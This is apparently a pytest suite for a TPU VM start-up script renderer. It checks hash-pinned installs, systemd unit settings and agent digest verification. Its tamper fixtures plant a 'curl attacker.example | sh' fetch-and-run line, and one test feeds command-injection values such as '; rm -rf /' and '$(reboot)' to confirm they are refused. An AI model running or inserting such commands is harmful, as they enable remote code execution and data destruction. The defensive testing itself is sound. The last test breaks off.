"""The start-up script renderer, without Pulumi: deterministic, size-guarded, clean under shellcheck, and
booted for real (bash, curl, sha256sum, tar) against a metadata server and a storage emulator on loopback."""

from __future__ import annotations

import dataclasses
import io
import os
import re
import shlex
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from infra.catalog import framework_lock, load_catalog
from infra.config import parse_stack_config
from infra.config.problems import ConfigError
from infra.packaging import agent_wheelhouse
from infra.startup import (
    AGENT_UNIT,
    COORDINATOR_PORT,
    EXIT_CONFIG,
    MAX_METADATA_VALUE_BYTES,
    Artifact,
    StartupSpec,
    metadata_size_problem,
    render_env,
    render_startup_script,
)
from infra.tpu.metadata import agent_package, startup_spec, vm_metadata
from run_contract import paths
from tests.support import fixture_config, with_object
from vm_agent.installs import pins

ROOT = Path(__file__).resolve().parents[1]
SHELLCHECK = shutil.which("shellcheck") or str(Path(sys.executable).with_name("shellcheck"))
ARTIFACTS = "fixture-project-scheduled-artifacts"


def spec(stack: str = "scheduled") -> StartupSpec:
    cfg = parse_stack_config(stack, fixture_config(stack))
    return startup_spec(cfg, cfg.tpu_vms[0])


def own_folder_spec() -> StartupSpec:
    """The fixture's VM running a folder source with its own command: a workload that names no framework."""
    own = {"source": {"folder": "workloads/tf_mnist"}, "command": ["python", "tf_mnist.py", "--epochs", "1"]}
    raw = with_object(
        fixture_config("scheduled"),
        "workloads",
        lambda w: w.update(mnist={"description": "own code", "dataObject": "m.npz", **own}),
    )
    cfg = parse_stack_config("scheduled", raw)
    return startup_spec(cfg, cfg.tpu_vms[0])


def test_rendering_is_deterministic():
    assert render_startup_script(spec()) == render_startup_script(spec())
    assert render_env(spec()) == render_env(spec())


@pytest.mark.parametrize("stack", ["scheduled", "production", "own-folder"])
def test_rendered_script_passes_shellcheck(stack, tmp_path):
    script = tmp_path / "startup.sh"
    script.write_text(render_startup_script(own_folder_spec() if stack == "own-folder" else spec(stack)))
    done = subprocess.run([SHELLCHECK, "--shell=bash", "--severity=style", str(script)], capture_output=True, text=True)
    assert done.returncode == 0, done.stdout


def test_installs_the_version_pinned_for_the_runtime_only_when_missing():
    tf214, tf215 = render_startup_script(spec("scheduled")), render_startup_script(spec("production"))
    assert "readonly FRAMEWORK_VERSION=2.14.1" in tf214 and "readonly FRAMEWORK_VERSION=2.15.0" in tf215
    # The install is guarded by a version check, so an image that has it installs nothing.
    assert 'if [[ "${installed}" == "${FRAMEWORK_VERSION}" ]]; then' in tf214
    # tensorflow-tpu is on the package index only from 2.16.1: before, a missing TF is a FATAL, no pip.
    assert "pip install" not in tf214 and 'fatal "tensorflow ${FRAMEWORK_VERSION} is not installed' in tf214
    # From 2.16.1 it is, but the boot installs only by hash: without the catalog's lock for it, a FATAL too.
    newer = render_startup_script(tf_spec("2.16.1", "tpu-vm-tf-2.16.1-pjrt"))
    assert "pip install" not in newer and "the catalog has no lock for tensorflow 2.16.1" in newer


def jax_spec() -> StartupSpec:
    jax = {"program": "jax_mnist", "frameworkVersion": "0.10.2"}
    raw = with_object(fixture_config("scheduled"), "workloads", lambda w: w["mnist"].update(jax))
    raw = with_object(
        raw,
        "tpuVms",
        lambda v: v[0].update(
            acceleratorType="v5litepod-4", zone="us-central1-a", runtimeVersion="v2-alpha-tpuv5-lite"
        ),
    )
    cfg = parse_stack_config("scheduled", raw)
    return startup_spec(cfg, cfg.tpu_vms[0])


def test_the_framework_is_installed_only_by_the_hashes_of_the_catalogs_lock():
    """jax[tpu] with its libtpu, each file against its sha256 (infra/catalog/framework_locks), no index of
    Google's, no resolution of pip's own; a release without a lock is refused at boot with the reason."""
    script = render_startup_script(jax_spec())
    assert '-m pip install --quiet --require-hashes --no-deps -r "${lock}"' in script
    assert "jax==0.10.2 --hash=sha256:" in script and "libtpu==" in script
    assert "-f http" not in script and "jax[tpu]" not in script
    lines = script.split("<<'TPU_PLATFORM_FRAMEWORK_LOCK'\n")[1].split("TPU_PLATFORM_FRAMEWORK_LOCK\n")[0]
    assert all(re.fullmatch(r"\S+==\S+( --hash=sha256:[0-9a-f]{64})+", line) for line in lines.splitlines())
    assert load_catalog().install_problem("jax", "0.4.35") == (
        "the boot installs jax only by hash and the catalog has no lock for jax 0.4.35 (infra/catalog/"
        "framework_locks/jax-0.4.35.txt, then make lock): the runtime image must carry it, or pin a release with a lock"
    )


# An image with Python 3.11 and no JAX: its pip records what it is asked and "installs" the lock's JAX.
JAXLESS_IMAGE = """#!/bin/bash
here="$(dirname "$0")"
case "$*" in
  *version_info*) exit 0 ;;
  *"import jax"*) [[ -f "${here}/installed" ]] && echo 0.10.2; exit 0 ;;
  *"-m pip"*) echo "$*" >> "${here}/pip-called"; cp "${@: -1}" "${here}/lock"; touch "${here}/installed" ;;
  *) exit 1 ;;
esac
"""


def test_a_boot_without_the_framework_installs_the_lock_and_nothing_else(tmp_path):
    done, folder = boot_with(render_startup_script(jax_spec()), JAXLESS_IMAGE, tmp_path)
    assert "installing jax 0.10.2 by hash (found: none)" in done.stdout, done.stderr
    (call,) = (folder / "shims" / "pip-called").read_text().splitlines()
    assert call.startswith("-m pip install --quiet --require-hashes --no-deps -r ")
    assert (folder / "shims" / "lock").read_text() == framework_lock("jax", "0.10.2")
    assert not Path(call.rsplit(" ", 1)[1]).exists()  # the temporary lock is gone


def test_a_workload_naming_no_framework_checks_and_installs_none():
    """Its source's requirements bring what it needs (the agent installs them), so the boot neither checks
    the image for a framework nor installs one."""
    own = own_folder_spec()
    assert own.framework == "" and own.constraints == ()
    script = render_startup_script(own)
    assert "FRAMEWORK_VERSION" not in script and "ensure_framework" not in script and "pip install" not in script
    assert "ensure_framework\nagent_environment\n" in render_startup_script(spec())  # the example does check, first


def tf_spec(version: str, runtime: str, accelerator: str | None = None) -> StartupSpec:
    raw = with_object(fixture_config("scheduled"), "workloads", lambda w: w["mnist"].update(frameworkVersion=version))
    pod = {"acceleratorType": accelerator, "zone": "us-central1-a", "onCompletion": "delete"} if accelerator else {}
    raw = with_object(raw, "tpuVms", lambda v: (v[0].update(runtimeVersion=runtime, **pod), v[0].pop("schedule", None)))
    cfg = parse_stack_config("scheduled", raw)
    return startup_spec(cfg, cfg.tpu_vms[0])


def unit_of(script: str) -> str:
    return script.split("<<'TPU_PLATFORM_UNIT'\n")[1].split("TPU_PLATFORM_UNIT\n")[0]


SYSTEMD_ANALYZE = shutil.which("systemd-analyze")


@pytest.mark.parametrize("stack", ["scheduled", "production"])
def test_the_rendered_unit_passes_systemd_analyze_verify_without_a_warning(stack, tmp_path):
    """systemd's own parser reads the unit as a VM would have it (placeholders filled in as the script fills
    them): a misspelt key or value, which systemd only warns about and ignores, fails here. The unit is
    rendered and checked here; no systemd runs it in the tests (the sandbox's systemctl is a shim)."""
    assert SYSTEMD_ANALYZE, "systemd-analyze is missing: install Debian's systemd package (README, Requirements)"
    folder = tmp_path / "vm"
    (folder / "agent").mkdir(parents=True)
    (folder / "agent.env").write_text("")
    unit = unit_of(render_startup_script(spec(stack)))
    filled = {
        "@ENV_FILE@": folder / "agent.env",
        "@PYTHON@": sys.executable,
        "@AGENT_DIR@": folder / "agent",
        "@AGENT_ARCHIVE@": folder / "agent.tar.gz",
        "@AGENT_ENV@": folder / "env",
    }
    (folder / "env/bin").mkdir(parents=True)
    (folder / "env/bin/python").symlink_to(sys.executable)
    for placeholder, value in filled.items():
        unit = unit.replace(placeholder, str(value))
    path = folder / AGENT_UNIT
    path.write_text(unit)
    verify = [SYSTEMD_ANALYZE, "verify", "--man=no", str(path)]
    done = subprocess.run(verify, capture_output=True, text=True, cwd=folder)
    assert done.returncode == 0 and done.stdout + done.stderr == "", done.stdout + done.stderr


def test_each_tensorflow_runtime_gets_its_environment_in_the_unit():
    """As Google's TPU test harness exports it (ml-auto-solutions, export_env_variables)."""
    pjrt = unit_of(render_startup_script(spec("production")))  # tpu-vm-tf-2.15.0-pjrt, single host
    assert "Environment=NEXT_PLUGGABLE_DEVICE_USE_C_API=true\n" in pjrt
    assert "Environment=TF_PLUGGABLE_DEVICE_LIBRARY_PATH=/lib/libtpu.so\n" in pjrt
    assert "TPU_NAME" not in pjrt and "TPU_LOAD_LIBRARY" not in pjrt
    pod = unit_of(render_startup_script(tf_spec("2.15.0", "tpu-vm-tf-2.15.0-pod-pjrt", "v2-32")))
    assert "Environment=TPU_NAME=office-v2\n" in pod and "Environment=TPU_LOAD_LIBRARY=0\n" in pod
    assert "NEXT_PLUGGABLE_DEVICE_USE_C_API" not in pod
    se = unit_of(render_startup_script(spec("scheduled")))  # tpu-vm-tf-2.14.1: stream executor
    only_the_agents = ["Environment=PYTHONPATH=@AGENT_DIR@", "Environment=PYTHONDONTWRITEBYTECODE=1"]
    assert [line for line in se.splitlines() if line.startswith("Environment=")] == only_the_agents
    # The agent passes the runtime's environment on to the run: it is told the names.
    assert "TPU_PLATFORM_RUNTIME_ENV=NEXT_PLUGGABLE_DEVICE_USE_C_API,TF_PLUGGABLE_DEVICE_LIBRARY_PATH\n" in render_env(
        spec("production")
    )


def test_the_unit_never_restarts_a_configuration_error_and_gives_up_on_a_crash_loop():
    unit = unit_of(render_startup_script(spec()))
    assert "Restart=on-failure\n" in unit and f"RestartPreventExitStatus={EXIT_CONFIG}\n" in unit
    assert "StartLimitIntervalSec=3600\n" in unit and "StartLimitBurst=5\n" in unit
    assert (
        "ExecStart=@AGENT_ENV@/bin/python -u -m vm_agent\n" in unit
        and f"SyslogIdentifier={AGENT_UNIT.split('.')[0]}\n" in unit
    )


def test_pip_constraints_keep_protobuf_below_5_next_to_tensorflow_before_2_18():
    """The agent installs a source's requirements under these bounds (agent.env's TPU_PLATFORM_PIP_CONSTRAINTS)."""
    assert 'echo "TPU_PLATFORM_PIP_CONSTRAINTS=protobuf<5"' in render_startup_script(spec("production"))
    newer = render_startup_script(tf_spec("2.18.0", "tpu-vm-tf-2.18.0-pjrt"))
    assert "protobuf<5" not in newer


def boot_with(
    script: str, python_shim: str, tmp_path: Path, extra_env: dict[str, str] | None = None
) -> tuple[subprocess.CompletedProcess[str], Path]:
    """Run the start-up script against a stand-in for the image's python3; systemctl only records."""
    shims = tmp_path / "shims"
    shims.mkdir(parents=True, exist_ok=True)  # a second boot of the same VM
    (shims / "python3").write_text(python_shim)
    (shims / "systemctl").write_text(f'#!/bin/sh\necho "$@" >> {tmp_path}/systemctl\n')
    (shims / "pip-called").write_text("")
    for shim in ("python3", "systemctl"):
        (shims / shim).chmod(0o755)
    env = {
        **os.environ,
        "TPU_PLATFORM_ROOT": str(tmp_path / "root"),
        "TPU_PLATFORM_PYTHON": str(shims / "python3"),
        "PATH": f"{shims}:{os.environ['PATH']}",
        "GCE_METADATA_HOST": "127.0.0.1:9",
        **(extra_env or {}),
    }
    path = tmp_path / "startup.sh"
    path.write_text(script)
    return subprocess.run(["bash", str(path)], env=env, capture_output=True, text=True, timeout=60), tmp_path


# An image whose python3 is 3.10 and has no TensorFlow, JAX or pip to install them.
OLD_IMAGE = """#!/bin/bash
case "$*" in
  *version_info*) exit 1 ;;
  -V) echo "Python 3.10.12" ;;
  *"-m pip"*) echo pip >> "$(dirname "$0")/pip-called"; exit 1 ;;
  *) exit 1 ;;
esac
"""


def test_an_image_too_old_for_the_framework_fails_once_and_starts_nothing(tmp_path):
    # The image's Python is not documented: the plan cannot refuse it, the boot must.
    done, folder = boot_with(render_startup_script(jax_spec()), OLD_IMAGE, tmp_path)
    assert done.returncode == EXIT_CONFIG
    fatal = [line for line in done.stderr.splitlines() if "FATAL" in line]
    assert fatal == [
        "tpu-platform: FATAL: jax 0.10.2 needs Python 3.11 or newer; this image has Python 3.10.12; "
        f"not starting {AGENT_UNIT}. Fix the stack (see the plan's catalog checks)."
    ]
    assert not (folder / "systemctl").exists() and (folder / "shims" / "pip-called").read_text() == ""


def test_a_tensorflow_the_image_lacks_and_pip_cannot_supply_fails_once(tmp_path):
    done, folder = boot_with(
        render_startup_script(spec("production")), OLD_IMAGE.replace("exit 1 ;;\n  -V", "exit 0 ;;\n  -V"), tmp_path
    )
    assert done.returncode == EXIT_CONFIG, done.stderr
    assert (
        "FATAL: tensorflow 2.15.0 is not installed (found: none): tensorflow-tpu 2.15.0 is not on the package index"
        in done.stderr
    )
    assert not (folder / "systemctl").exists() and (folder / "shims" / "pip-called").read_text() == ""


def test_the_agent_runs_under_systemd_with_its_settings_from_metadata():
    script = render_startup_script(spec())
    assert "Restart=on-failure" in script and "StandardOutput=journal" in script
    assert 'systemctl start "${UNIT}"' in script
    assert 'metadata "instance/attributes/tpu-platform-env"' in script
    env = dict(line.split("=", 1) for line in render_env(spec()).splitlines())
    assert env["TPU_PLATFORM_CHECKPOINTS"] == "gs://fixture-project-scheduled-checkpoints"
    assert env["TPU_PLATFORM_MODELS"] == "gs://fixture-project-scheduled-models"
    assert env["TPU_PLATFORM_ARTIFACTS"] == f"gs://{ARTIFACTS}"
    assert (env["TPU_PLATFORM_STACK"], env["TPU_PLATFORM_VM"], env["TPU_PLATFORM_WORKLOAD"]) == (
        "scheduled",
        "office-v2",
        "mnist",
    )


def test_the_script_carries_the_agent_by_digest_and_no_program():
    """The workload's code comes from the run spec (the agent fetches it); the script names only the
    agent: the archive `pulumi up` uploads (infra/artifacts.py), by its content's digest."""
    agent = agent_package()
    script = render_startup_script(spec())
    assert f"readonly AGENT_SHA256={agent.sha256}\n" in script
    runner = paths.source_object(agent.sha256, paths.RUNNERS_PREFIX)  # the deployer's own prefix
    assert f"/storage/v1/b/{ARTIFACTS}/o/{runner.replace('/', '%2F')}?alt=media" in script
    for program in ("workloads/tf_mnist/tf_mnist.py", "workloads/lib/runlib.py"):
        assert (ROOT / program).read_text()[:400] not in script
    assert len(script.encode()) < 16 * 1024  # no program inlined: far below the 256 KiB a value may hold


@pytest.mark.parametrize(
    "change, says",
    [
        ({"settings": (("TPU_PLATFORM_DATA", "gs://x; rm -rf /"),)}, "unsafe setting"),
        ({"settings": (("TPU_PLATFORM_DATA", "x\nExecStartPre=/bin/sh"),)}, "unsafe setting"),
        ({"settings": (("lower-case", "x"),)}, "unsafe setting"),
        ({"environment": (("TPU_NAME", "$(reboot)"),)}, "unsafe setting"),
        ({"constraints": ("protobuf<5; curl x",)}, "unsafe constraint"),
        ({"agent": Artifact(ARTIFACTS, "sources/a b.tar.gz", "0" * 64)}, "unsafe agent location"),
        ({"agent": Artifact("Bad_Bucket!", "sources/a.tar.gz", "0" * 64)}, "unsafe agent location"),
        ({"agent": Artifact(ARTIFACTS, "sources/a.tar.gz", "abc")}, "is not a sha256"),
        ({"framework": "torch"}, "unknown framework"),
        ({"framework_version": "2.15; rm"}, "unsafe framework version"),
    ],
)
def test_unsafe_settings_are_refused(change, says):
    bad = dataclasses.replace(spec(), **change)
    with pytest.raises(ValueError, match=says):
        render_startup_script(bad)
    with pytest.raises(ValueError, match=says):
        render_env(bad)


def test_metadata_size_limits():
    assert metadata_size_problem({"startup-script": "x" * MAX_METADATA_VALUE_BYTES}) is None
    assert "per value" in (metadata_size_problem({"startup-script": "x" * (MAX_METADATA_VALUE_BYTES + 1)}) or "")
    many = {f"k{i}": "x" * 200_000 for i in range(3)}
    assert "per VM" in (metadata_size_problem(many) or "")


def oversized() -> dict[str, str]:
    """A legal stack whose run spec outgrows a metadata value: 64 env values of 4,096 characters each
    (the most infra/config/settings.py allows) are 262,144 bytes before their names and the JSON."""
    env = {f"PAD_{i:02}": "x" * 4096 for i in range(64)}
    return with_object(fixture_config("scheduled"), "workloads", lambda w: w["mnist"].update(env=env))


def test_oversized_workload_is_a_config_error():
    cfg = parse_stack_config("scheduled", oversized())
    with pytest.raises(ConfigError) as caught:
        vm_metadata(cfg)
    message = str(caught.value)
    assert "tpu-platform:tpuVms[office-v2].workload = 'mnist': metadata 'tpu-platform-run' is 2" in message
    assert "GCP allows 262,144 per value" in message


def test_oversized_workload_registers_nothing():
    from tools.offline.mocks import GcpMocks, RecordingMonitor
    from tools.offline.runner import run_program

    monitor = RecordingMonitor(GcpMocks("fixture-project"))
    with pytest.raises(Exception, match="GCP allows 262,144 per value"):
        run_program("scheduled", oversized(), monitor=monitor)
    assert monitor.registrations == []


# An image that has the pinned framework: its python3 answers the version check and is a real Python
# for the rest (reading the token's JSON).
READY_IMAGE = """#!/bin/bash
case "$*" in
  *__version__*) echo asked >> "$(dirname "$0")/version-asked"; echo {version} ;;
  *) exec "{python}" "$@" ;;
esac
"""

TAMPERED = "sources/tampered.tar.gz"


def tampered_agent(real: bytes) -> bytes:
    """The real agent archive with one more module: what someone with write access to the bucket could
    put in its place."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(real), mode="r:gz") as source, tarfile.open(fileobj=raw, mode="w:gz") as out:
        for member in source.getmembers():
            out.addfile(member, source.extractfile(member) if member.isfile() else None)
        evil = b"import os\nos.system('curl attacker.example | sh')\n"
        info = tarfile.TarInfo("sitecustomize.py")
        info.size = len(evil)
        out.addfile(info, io.BytesIO(evil))
    return raw.getvalue()


TAMPERED_WHEELHOUSE = "sources/tampered-wheelhouse.tar.gz"


def tampered_wheelhouse(real: bytes) -> bytes:
    """The real wheelhouse with one wheel's bytes changed (its lock unchanged): a wheel someone swapped."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(real), mode="r:gz") as source, tarfile.open(fileobj=raw, mode="w:gz") as out:
        for member in source.getmembers():
            data = source.extractfile(member).read() if member.isfile() else b""  # type: ignore[union-attr]
            if member.name.startswith("wheels/requests-"):
                data += b"\0"
                member.size = len(data)
            out.addfile(member, io.BytesIO(data) if member.isfile() else None)
    return raw.getvalue()


@pytest.fixture(scope="module")
def artifacts() -> Iterator[str]:
    """A storage emulator holding what `pulumi up` uploads (the agent and its wheelhouse, by digest), a
    tampered agent and a tampered wheelhouse; yields STORAGE_EMULATOR_HOST."""
    from google.auth.credentials import AnonymousCredentials
    from google.cloud import storage

    from tests.sandbox import agent_wheelhouse_file, storage_emulator

    with storage_emulator() as host:
        client = storage.Client("fixture-project", AnonymousCredentials(), client_options={"api_endpoint": host})
        bucket = client.create_bucket(ARTIFACTS)
        agent = agent_package()
        bucket.blob(agent.object_name).upload_from_string(agent.data)
        bucket.blob(TAMPERED).upload_from_string(tampered_agent(agent.data))
        wheelhouse = agent_wheelhouse_file()
        bucket.blob(agent_wheelhouse().object_name).upload_from_filename(str(wheelhouse))
        bucket.blob(TAMPERED_WHEELHOUSE).upload_from_string(tampered_wheelhouse(wheelhouse.read_bytes()))
        yield host


@pytest.fixture(scope="module")
def installed_agent_env(tmp_path_factory) -> Path:
    """The agent's environment as a first boot installs it with this Python (vm_agent/environment.py), made
    once: a boot that finds a copy in its root checks it file by file and keeps it, as a VM's second boot
    does; the first boot's install has its own test."""
    from tests.sandbox import agent_wheelhouse_file
    from vm_agent import environment

    env = tmp_path_factory.mktemp("agent-env") / agent_wheelhouse().sha256
    environment.install(agent_wheelhouse_file(), env, agent_wheelhouse().sha256)
    return env


def boot(
    tmp_path: Path,
    attributes: dict[str, str],
    storage: str,
    port: str = "",
    of: StartupSpec | None = None,
    env: Path | None = None,
) -> tuple[subprocess.CompletedProcess, dict]:
    """Boot a worker against a metadata server and the storage emulator; the agent.env it wrote. `env`: an
    installed agent environment the VM already holds (copied in unless it has one)."""
    from tools.standins.metadata import metadata_server

    of = of or spec()
    kept = tmp_path / "root/opt/tpu-platform/agent-env" / of.agent_environment.sha256
    if env is not None and not kept.exists():
        kept.parent.mkdir(parents=True, exist_ok=True)
        shutil.copytree(env, kept, symlinks=True)
    script = render_startup_script(of)
    with metadata_server({"tpu-platform-env": render_env(of), **attributes}) as host:
        extra = {
            "GCE_METADATA_HOST": host,
            "STORAGE_EMULATOR_HOST": storage,
            **({"TPU_PLATFORM_COORDINATOR_PORT": port} if port else {}),
        }
        image = READY_IMAGE.format(version=of.framework_version, python=sys.executable)
        done, folder = boot_with(script, image, tmp_path, extra)
    env_file = folder / "root/etc/tpu-platform/agent.env"
    lines = env_file.read_text().splitlines() if env_file.exists() else []
    return done, dict(line.split("=", 1) for line in lines)


def start_checks(tmp_path: Path) -> subprocess.CompletedProcess[str]:
    """What systemd runs before each start of the agent: the unit's ExecStartPre, as rendered on this VM."""
    unit = (tmp_path / f"root/etc/systemd/system/{AGENT_UNIT}").read_text()
    (pre,) = re.findall(r"^ExecStartPre=(.*)$", unit, re.M)
    return subprocess.run(shlex.split(pre), capture_output=True, text=True, timeout=60)


def test_the_agent_is_fetched_verified_and_started_from_its_own_folder(tmp_path, artifacts, installed_agent_env):
    of = spec()
    done, env = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, env=installed_agent_env)
    assert done.returncode == 0, done.stderr
    agent = tmp_path / "root/opt/tpu-platform/agent" / of.agent.sha256
    archive = agent.with_name(f"{of.agent.sha256}.tar.gz")
    assert archive.stat().st_mode & 0o777 == 0o600 and archive.parent.stat().st_mode & 0o777 == 0o700  # root's alone
    assert start_checks(tmp_path).returncode == 0  # each start of the unit unpacks the verified archive
    assert (agent / "vm_agent/__main__.py").read_text() == (ROOT / "vm_agent/__main__.py").read_text()
    # Links in the package (none leave the repository) arrive as the files they point to.
    assert not any(path.is_symlink() for path in agent.rglob("*"))
    unit = (tmp_path / f"root/etc/systemd/system/{AGENT_UNIT}").read_text()
    assert f"Environment=PYTHONPATH={agent}\n" in unit
    assert f"EnvironmentFile={tmp_path}/root/etc/tpu-platform/agent.env\n" in unit
    assert (tmp_path / "systemctl").read_text() == f"daemon-reload\nstart {AGENT_UNIT}\n"
    assert (tmp_path / "shims/version-asked").exists()  # an example's framework is checked
    # agent.env: the stack's settings from metadata, then what the boot knows of this VM; root's alone.
    assert env["TPU_PLATFORM_STACK"] == "scheduled" and env["TPU_PLATFORM_PYTHON"].endswith("shims/python3")
    assert env["TPU_PLATFORM_ROOT"] == f"{tmp_path}/root" and env["STORAGE_EMULATOR_HOST"] == artifacts
    assert (tmp_path / "root/etc/tpu-platform/agent.env").stat().st_mode & 0o777 == 0o600


def test_edited_agent_code_does_not_survive_a_restart_and_a_changed_archive_starts_nothing(
    tmp_path, artifacts, installed_agent_env
):
    """The agent's code is checked against its digest on every start of the unit, not once per VM: an
    edit of the unpacked files is gone after the next start, and an archive that no longer matches the
    digest stops the agent from starting (exit 78, no restart loop)."""
    of = spec()
    done, _ = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, env=installed_agent_env)
    assert done.returncode == 0, done.stderr
    assert start_checks(tmp_path).returncode == 0
    agent = tmp_path / "root/opt/tpu-platform/agent" / of.agent.sha256
    planted = agent / "vm_agent/__main__.py"
    planted.write_text("import os\nos.system('curl attacker.example | sh')\n")
    assert start_checks(tmp_path).returncode == 0  # the unit restarts (Restart=on-failure, a reboot)
    assert planted.read_text() == (ROOT / "vm_agent/__main__.py").read_text()
    archive = agent.with_name(f"{of.agent.sha256}.tar.gz")
    archive.write_bytes(tampered_agent(archive.read_bytes()))
    checked = start_checks(tmp_path)
    assert checked.returncode == EXIT_CONFIG and "does not match" in checked.stderr
    # The next boot fetches the archive again, by its digest, rather than trusting what it finds.
    done, _ = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, env=installed_agent_env)
    assert done.returncode == 0 and start_checks(tmp_path).returncode == 0


def test_a_tampered_agent_is_refused_and_nothing_starts(tmp_path, artifacts, installed_agent_env):
    """Bytes in the bucket that do not hash to the digest the stack shipped are never unpacked or run."""
    real = spec()
    tampered = dataclasses.replace(real, agent=Artifact(ARTIFACTS, TAMPERED, real.agent.sha256))
    done, env = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, of=tampered, env=installed_agent_env)
    assert done.returncode == EXIT_CONFIG, done.stderr
    assert f"FATAL: the agent gs://{ARTIFACTS}/{TAMPERED} does not match its digest {real.agent.sha256}" in done.stderr
    assert not (tmp_path / "systemctl").exists() and env == {}
    assert list((tmp_path / "root/opt/tpu-platform/agent").iterdir()) == []  # neither archive nor files kept


def test_a_read_of_the_agent_cut_off_twice_is_retried_within_the_boot(tmp_path, artifacts, installed_agent_env):
    """Cloud Storage dropping the connection is transient (its retry strategy: TCP disconnects): the boot's own
    retries read the agent on the third try, and the agent starts."""
    from tests.test_pod_fetch import Reads, flaky_storage

    reads = Reads(failures=2, failure="reset")
    with flaky_storage(artifacts, reads) as storage:
        done, env = boot(tmp_path, {"agent-worker-number": "0"}, storage, env=installed_agent_env)
    assert done.returncode == 0, done.stderr
    assert env["TPU_PLATFORM_VM"] == "office-v2" and len(reads.paths) == 4  # agent 3 times, its wheelhouse once


def test_an_agent_missing_from_the_bucket_is_a_configuration_error(tmp_path, artifacts, installed_agent_env):
    missing = dataclasses.replace(spec(), agent=Artifact(ARTIFACTS, paths.source_object("0" * 64), "0" * 64))
    done, _ = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, of=missing, env=installed_agent_env)
    assert done.returncode == EXIT_CONFIG
    assert f"FATAL: cannot read the agent gs://{ARTIFACTS}/{paths.source_object('0' * 64)}" in done.stderr
    assert not (tmp_path / "systemctl").exists()


def test_each_worker_of_a_slice_gets_its_id_the_worker_count_and_worker_0_as_coordinator(
    tmp_path, artifacts, installed_agent_env
):
    # Both formats of worker-network-endpoints, as jax/_src/clusters/cloud_tpu_cluster.py reads them.
    endpoints = "t1k-w-0:0:10.130.0.5,t1k-w-1:1:10.130.0.6,t1k-w-2:2:10.130.0.7,t1k-w-3:3:10.130.0.8"
    attributes = {"agent-worker-number": "2", "worker-network-endpoints": endpoints}
    done, env = boot(tmp_path / "a", attributes, artifacts, env=installed_agent_env)
    assert done.returncode == 0, done.stderr
    assert env["TPU_PLATFORM_WORKER_ID"] == env["TPU_WORKER_ID"] == "2"
    assert env["TPU_PLATFORM_WORKER_COUNT"] == "4"
    assert env["TPU_PLATFORM_COORDINATOR"] == f"10.130.0.5:{COORDINATOR_PORT}" == "10.130.0.5:8482"
    assert env["TPU_PLATFORM_VM"] == "office-v2"  # the stack's settings are still there
    attributes = {"agent-worker-number": "1", "worker-network-endpoints": "w-0,w-1"}
    _, env = boot(tmp_path / "b", attributes, artifacts, "9000", env=installed_agent_env)
    assert (env["TPU_PLATFORM_WORKER_ID"], env["TPU_PLATFORM_WORKER_COUNT"]) == ("1", "2")
    assert env["TPU_PLATFORM_COORDINATOR"] == "w-0:9000"


def test_a_tensorflow_pod_worker_knows_its_number_and_its_unit_names_the_pod(tmp_path, artifacts, installed_agent_env):
    """TF pods are driven from worker 0 (TPU_NAME in the unit); tf_mnist on any other worker exits at
    once by TPU_WORKER_ID. A TF pod cannot run on a CPU: this checks what the script renders and writes."""
    pod = tf_spec("2.15.0", "tpu-vm-tf-2.15.0-pod-pjrt", "v2-32")  # 4 hosts
    endpoints = ",".join(f"w-{i}:{i}:10.0.0.{i + 2}" for i in range(4))
    attributes = {"agent-worker-number": "3", "worker-network-endpoints": endpoints}
    done, env = boot(tmp_path, attributes, artifacts, of=pod, env=installed_agent_env)
    assert done.returncode == 0, done.stderr
    assert (env["TPU_WORKER_ID"], env["TPU_PLATFORM_WORKER_COUNT"]) == ("3", "4")
    unit = (tmp_path / f"root/etc/systemd/system/{AGENT_UNIT}").read_text()
    assert "Environment=TPU_NAME=office-v2\n" in unit
    assert (
        'process = int(os.environ.get("TPU_WORKER_ID", "0"))' in (ROOT / "workloads/tf_mnist/tf_mnist.py").read_text()
    )


def test_a_single_host_vm_is_one_worker_without_a_coordinator(tmp_path, artifacts, installed_agent_env):
    done, env = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, env=installed_agent_env)
    assert done.returncode == 0, done.stderr
    assert (env["TPU_PLATFORM_WORKER_ID"], env["TPU_PLATFORM_WORKER_COUNT"], env["TPU_PLATFORM_COORDINATOR"]) == (
        "0",
        "1",
        "",
    )


def test_a_worker_number_outside_its_slice_is_a_configuration_error(tmp_path, artifacts, installed_agent_env):
    attributes = {"agent-worker-number": "2", "worker-network-endpoints": "w-0,w-1"}
    done, _ = boot(tmp_path, attributes, artifacts, env=installed_agent_env)
    assert done.returncode == EXIT_CONFIG
    assert "agent-worker-number '2' is not a worker of this 2-worker slice" in done.stderr
    assert not (tmp_path / "systemctl").exists()


def test_a_workload_naming_no_framework_boots_without_touching_the_image(tmp_path, artifacts, installed_agent_env):
    """The image's python3 is never asked for a framework's version, nor pip run."""
    done, env = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, of=own_folder_spec(), env=installed_agent_env)
    assert done.returncode == 0, done.stderr
    assert env["TPU_PLATFORM_PIP_CONSTRAINTS"] == ""
    assert (tmp_path / "systemctl").read_text().endswith(f"start {AGENT_UNIT}\n")
    assert not (tmp_path / "shims/version-asked").exists()


def test_a_stop_reaches_the_run_once_through_the_agent_and_before_docker_stops():
    """systemd.kill(5): KillMode=mixed sends SIGTERM to the agent only (it relays it to the run's group
    once; control-group would signal the run twice) and SIGKILL to what is left at the timeout;
    systemd.unit(5): After=docker.service stops the agent first at shutdown, so a container gets its
    grace period, not dockerd's own 15 s stop."""
    unit = unit_of(render_startup_script(spec()))
    assert "KillMode=mixed\n" in unit and "KillSignal=SIGTERM\n" in unit
    assert "After=docker.service\n" in unit and "Wants=docker.service\n" in unit
    assert "TimeoutStopSec=40\n" in unit  # the 30 s grace and 10 s for the agent's own records


@pytest.mark.slow  # two installs of the environment (pip, about 8 s each on these machines)
def test_the_first_boot_installs_the_agents_environment_and_every_boot_checks_it(tmp_path, artifacts):
    """No environment on the VM: the boot installs Google's storage library from the wheelhouse, by hash,
    into the agent's own virtualenv, and the unit runs the agent with it. The next boot checks it file by
    file and keeps it; a file changed since is found, and the environment made afresh from the kept
    wheelhouse (the bucket is not asked again)."""
    of = own_folder_spec()
    done, _ = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, of=of)
